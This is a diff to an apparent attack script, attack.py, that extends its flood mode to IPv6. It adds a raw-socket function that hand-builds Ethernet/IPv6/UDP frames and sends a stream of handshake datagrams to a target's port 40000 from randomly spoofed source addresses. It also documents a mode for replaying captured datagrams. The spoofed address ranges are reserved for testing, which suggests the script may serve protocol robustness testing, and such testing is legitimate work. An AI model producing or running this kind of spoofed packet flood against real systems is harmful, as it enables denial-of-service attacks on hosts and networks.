@@ -5,7 +5,7 @@
   attack.py KIND CAPTURE COUNT FROM TO TO-MAC     COUNT datagrams made of those in CAPTURE (see KINDS), from FROM to TO,
                                                   both at port 40000
   attack.py flood KEY COUNT - TO TO-MAC           handshakes of nobody, made well for the public key KEY, from anywhere;
-                                                  COUNT 0: until SIGTERM; then how many
+                                                  COUNT 0: until SIGTERM; then how many. TO may be of IPv6
 """
 import base64
 import hashlib
@@ -45,6 +45,16 @@ def send(payload, source, to, to_mac, mtu=1500):
                              socket.inet_aton(source), socket.inet_aton(to))
         header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
         s.send(to_mac + own_mac + b"\x08\x00" + header + part)
+
+
+def send6(payload, source, to, to_mac):
+    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, to)
+    length = 8 + len(payload)
+    datagram = struct.pack("!HHHH", 40000, 40000, length, 0) + payload
+    # IPv6 wants the checksum; a length that is even keeps it simple.
+    total = checksum(addresses + struct.pack("!II", length, 17) + datagram)
+    datagram = datagram[:6] + struct.pack("!H", total or 0xFFFF) + datagram[8:]
+    s.send(to_mac + own_mac + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, length, 17, 64) + addresses + datagram)
 
 
 def capture():
@@ -100,7 +110,11 @@ def flood(public_key, count, to, to_mac):
     going, sent = [True], 0
     signal.signal(signal.SIGTERM, lambda *_: going.clear())
     while going and (sent < count or not count):
-        send(flood_message(key), f"198.18.{random.randrange(256)}.{random.randrange(1, 255)}", to, to_mac)
+        if ":" in to:
+            send6(flood_message(key), f"2001:db8:{random.randrange(1, 65536):x}:{random.randrange(65536):x}::1", to,
+                  to_mac)
+        else:
+            send(flood_message(key), f"198.18.{random.randrange(256)}.{random.randrange(1, 255)}", to, to_mac)
         sent += 1
         if sent % PACE == 0:
             time.sleep(0.01)
